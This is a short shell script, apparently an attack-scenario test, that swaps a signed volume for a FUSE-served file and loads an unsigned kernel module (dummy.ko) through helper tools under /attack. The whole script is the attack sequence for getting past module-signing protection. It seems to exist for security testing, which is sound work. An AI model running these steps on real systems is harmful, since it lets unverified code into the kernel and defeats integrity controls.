# shellcheck shell=sh
#
# fuseblk-module - let FUSE serve an unsigned module from a signed volume that root has unmounted
#
# SPDX-License-Identifier: MIT

mkdir -p /tmp/disk
mount -o ro /dev/vdb /tmp/disk
umount /volume
: >/tmp/served
/attack/fuseblk /dev/mapper/volume /tmp/disk/dummy.ko /tmp/served &&
	/attack/modload file /tmp/served dummy
umount /tmp/served
umount /tmp/disk
mount -t ext4 -o ro /dev/mapper/volume /volume
